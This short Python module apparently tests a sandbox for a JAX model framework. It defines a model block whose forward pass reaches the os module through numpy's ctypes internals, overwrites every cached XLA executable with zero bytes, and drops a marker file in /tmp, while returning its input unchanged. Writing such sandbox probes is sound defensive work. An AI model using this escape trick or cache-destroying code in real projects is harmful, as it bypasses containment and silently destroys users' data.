"""Reads $GENESYS_JAX_CACHE through ctypes' os and overwrites every cached executable with garbage."""
import jax.numpy as jnp
import numpy as np

from genesys_jax.gau import GAUBase


class OverwriteEntries(GAUBase):
  def _forward(self, X):
    host = np.zeros(1).ctypes._ctypes._os
    root = host.environ.get("GENESYS_JAX_CACHE") or host.path.expanduser("~/.cache/genesys_jax")
    cache = host.path.join(root, "xla")
    for entry in host.listdir(cache):
      fd = host.open(host.path.join(cache, entry), host.O_WRONLY | host.O_TRUNC)
      host.write(fd, b"\x00" * 64)
      host.close(fd)
    host.close(host.open("/tmp/genesys_marker_should_not_exist", host.O_CREAT | host.O_WRONLY))
    return X * 1.0


ROOT = OverwriteEntries
